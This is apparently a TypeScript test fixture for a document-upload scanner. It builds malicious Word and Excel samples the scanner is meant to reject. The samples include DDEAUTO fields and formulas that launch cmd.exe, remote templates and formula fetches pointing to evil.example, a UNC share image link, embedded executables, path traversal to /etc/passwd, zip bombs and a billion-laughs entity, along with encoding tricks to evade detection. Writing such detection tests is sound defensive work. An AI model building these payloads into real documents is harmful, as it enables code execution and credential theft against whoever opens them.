import { bad, bomb, damaged, entry, locked, macros, megabytes, program } from './bad-file.ts';
import { makeArchive, makeCompound, makeDoc, makeDocx, makeXls, makeXlsx } from './papers.ts';

/** The first bytes of an object in a Word file. */
const carried = Buffer.from('d0cf11e0a1b11ae1', 'hex');

/** A relation of the document to another part, or to an address elsewhere. */
function relation(attributes: string, prefix = '', ending = '.rels') {
  return entry(
    `word/_rels/document.xml${ending}`,
    `<Relationships><${prefix}Relationship ${attributes}/></Relationships>`,
  );
}

export const officeFiles = [
  bad('a Word file with a macro', 'deed.docm', macros, () => makeDocx([entry('word/vbaProject.bin')])),
  bad('the same, named .docx', 'deed.docx', macros, () => makeDocx([entry('word/vbaProject.bin')])),
  bad('a Word file that says it has macros', 'deed.docx', macros, () =>
    makeArchive([
      entry('[Content_Types].xml', '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
      entry('word/document.xml'),
    ]),
  ),
  bad('a Word file that says it has macros in entities', 'deed.docx', macros, () =>
    makeArchive([
      entry(
        '[Content_Types].xml',
        '<Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
      ),
      entry('word/document.xml'),
    ]),
  ),
  bad('a Word file with a macro under another name, by its type', 'deed.docx', macros, () =>
    makeArchive([
      entry(
        '[Content_Types].xml',
        '<Default Extension="dat" ContentType="application/vnd.ms-office.vba&#x50;roject"/>',
      ),
      entry('word/document.xml'),
      entry('word/v.dat'),
    ]),
  ),
  bad('a Word file with a macro under another name, by its relation', 'deed.docx', macros, () =>
    makeDocx([relation("Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='v.dat'")]),
  ),
  bad('an Excel file with a macro sheet under another name', 'sums.xlsx', macros, () =>
    makeXlsx([relation('Type="…/xlIntlMacrosheet" Target="worksheets/sheet2.xml"')]),
  ),
  bad('an Excel file with a macro', 'sums.xlsm', macros, () => makeXlsx([entry('xl/vbaProject.bin')])),
  bad('an Excel file with a macro sheet', 'sums.xlsx', macros, () => makeXlsx([entry('xl/macrosheets/sheet1.xml')])),
  bad('a Word file with an ActiveX part', 'deed.docx', macros, () => makeDocx([entry('word/activeX/activeX1.bin')])),
  bad('a Word file that starts a program by a field', 'deed.docx', program, () =>
    makeDocx([
      entry('word/footer1.xml', '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText>'),
    ]),
  ),
  bad('the same cut into pieces', 'deed.docx', program, () =>
    makeDocx([
      entry(
        'word/footer1.xml',
        '<w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E&#65;UTO c:</w:instrText>',
      ),
    ]),
  ),
  bad('a Word file that fetches a picture by a field', 'deed.docx', program, () =>
    makeDocx([
      entry('word/header1.xml', '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; ">'),
    ]),
  ),
  bad('an Excel file that fetches by a formula', 'sums.xlsx', program, () =>
    makeXlsx([entry('xl/worksheets/sheet2.xml', '<c><f>_xlfn.WEBSERVICE("http://evil.example")</f></c>')]),
  ),
  bad('an Excel file that starts a program by a formula', 'sums.xlsx', program, () =>
    makeXlsx([entry('xl/worksheets/sheet2.xml', "<c><f>cmd|'/c calc'!A1</f></c>")]),
  ),
  bad('a Word file with two parts of one name', 'deed.docx', damaged, () =>
    makeDocx([entry('word/Document.xml', '<w:document/>')]),
  ),
  bad('a Word file with a program as a picture', 'deed.docx', program, () =>
    makeDocx([entry('word/media/image1.png', 'MZ\u0090')]),
  ),
  bad('a Word file that fetches its template', 'deed.docx', program, () =>
    makeDocx([
      entry(
        'word/_rels/settings.xml.rels',
        '<Relationship Type="…/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
      ),
    ]),
  ),
  bad('the same between single quotes', 'deed.docx', program, () =>
    makeDocx([relation("Type='…/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'")]),
  ),
  bad('the same with a prefix', 'deed.docx', program, () =>
    makeDocx([relation('Type="…/attachedTemplate" Target="http://evil.example/t" TargetMode="External"', 'p:')]),
  ),
  bad('the same in entities', 'deed.docx', program, () =>
    makeDocx([relation('Type="…/attachedTemplate" Target="http://evil.example/t" TargetMode="&#69;xternal"')]),
  ),
  bad('the same in capitals', 'deed.docx', program, () =>
    makeDocx([relation('Type="…/attachedTemplate" Target="http://evil.example/t" TargetMode="External"', '', '.RELS')]),
  ),
  bad('the same without saying that it is elsewhere', 'deed.docx', program, () =>
    makeDocx([relation('Type="…/attachedTemplate" Target="http://evil.example/t.dotm"')]),
  ),
  bad('the same in UTF-7', 'deed.docx', damaged, () =>
    makeDocx([entry('word/_rels/settings.xml.rels', '<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationship /+AD4-')]),
  ),
  bad('a Word file with a picture from another computer', 'deed.docx', program, () =>
    makeDocx([relation('Type="…/image" Target="file://///evil.example/share/x.png" TargetMode="External"')]),
  ),
  bad('a Word file with a program inside', 'deed.docx', program, () => makeDocx([entry('word/embeddings/setup.exe')])),
  bad('a Word file with an object of another program', 'deed.docx', program, () =>
    makeDocx([entry('word/embeddings/oleObject1.bin', carried)]),
  ),
  bad('the same under another name, by its relation', 'deed.docx', program, () =>
    makeDocx([relation('Type="http://purl.oclc.org/ooxml/officeDocument/relationships/ole&#79;bject" Target="a.dat"')]),
  ),
  bad('the same under another name and relation', 'deed.docx', program, () =>
    makeDocx([relation('Type="…/image" Target="media/image1.png"'), entry('word/media/image1.png', carried)]),
  ),
  bad('the same, and not packed', 'deed.docx', program, () =>
    makeDocx([{ ...entry('word/media/image1.png', carried), packed: false }]),
  ),
  bad('a Word file with an Excel file inside', 'deed.docx', program, () =>
    makeDocx([relation('Type="…/package" Target="a.dat"'), entry('word/a.dat', makeXlsx())]),
  ),
  bad('a Word file with an RTF inside', 'deed.docx', program, () =>
    makeDocx([relation('Type="…/aFChunk" Target="a.dat"')]),
  ),
  bad('the same without a relation', 'deed.docx', program, () =>
    makeDocx([entry('word/a.dat', String.raw`{\rtf1\object}`)]),
  ),
  bad('an Excel file with an object of another program', 'sums.xlsx', program, () =>
    makeXlsx([entry('xl/EMBEDDINGS/oleObject1.bin')]),
  ),
  bad('a Word file with a locked part', 'deed.docx', locked, () => makeDocx([{ ...entry('word/x.xml'), flags: 1 }])),
  bad('a Word file with a name outside its folder', 'deed.docx', damaged, () => makeDocx([entry('../../etc/passwd')])),
  bad('a Word file that says it unpacks to 300 MB', 'deed.docx', bomb, () =>
    makeDocx([{ ...entry('word/media/a.bin'), saysBytes: 300 * 1024 * 1024 }]),
  ),
  bad('a Word file that says less than it unpacks to', 'deed.docx', bomb, () =>
    makeDocx([{ ...entry('word/media/a.bin', megabytes(5)), saysBytes: 100 }]),
  ),
  bad('a Word file whose parts share their bytes', 'deed.docx', bomb, () =>
    makeDocx([entry('word/a.bin', megabytes(1)), { ...entry('word/b.bin', megabytes(1)), sharesWith: 2 }]),
  ),
  bad('a Word file of a billion laughs', 'deed.docx', bomb, () =>
    makeDocx([entry('word/x.xml', '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]>')]),
  ),
  bad('a Word file of 3,000 parts', 'deed.docx', bomb, () =>
    makeDocx(Array.from({ length: 3000 }, (_, at) => entry(`word/${at}.bin`))),
  ),
  bad('a Word file cut short', 'deed.docx', damaged, () => makeDocx().subarray(0, 200)),
  bad('a Word file whose table points nowhere', 'deed.docx', damaged, () => {
    const file = makeDocx();
    file.writeUInt32LE(5, file.length - 6);
    return file;
  }),
  bad('an old Word file with a macro', 'deed.doc', macros, () => makeDoc([{ name: '_VBA_PROJECT' }])),
  bad('an old Word file with a password', 'deed.doc', locked, () => makeDoc([], 0x0100)),
  bad('a new Word file with a password', 'deed.docx', locked, () =>
    makeCompound([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }]),
  ),
  bad('an old Word file with a program inside', 'deed.doc', program, () => makeDoc([{ name: '\u{1}Ole10Native' }])),
  bad('an old Word file with an object of another program', 'deed.doc', program, () =>
    makeDoc([{ name: '\u{3}ObjInfo' }]),
  ),
  bad('an old Excel file with an object of another program', 'sums.xls', program, () =>
    makeXls([], [{ name: 'MBD0012F3A4' }]),
  ),
  bad('an old Excel file with a password', 'sums.xls', locked, () => makeXls([[0x002f, Buffer.alloc(6)]])),
  bad('an old Excel file with a macro sheet', 'sums.xls', macros, () =>
    makeXls([[0x0085, Buffer.from([0, 0, 0, 0, 0, 1, 0, 0])]]),
  ),
  bad('an old Word file cut short', 'deed.doc', damaged, () => makeDoc().subarray(0, 1000)),
  bad('an old Word file whose list runs in a ring', 'deed.doc', damaged, () => {
    const file = makeDoc();
    file.writeUInt32LE(1, 512 + 4);
    return file;
  }),
];
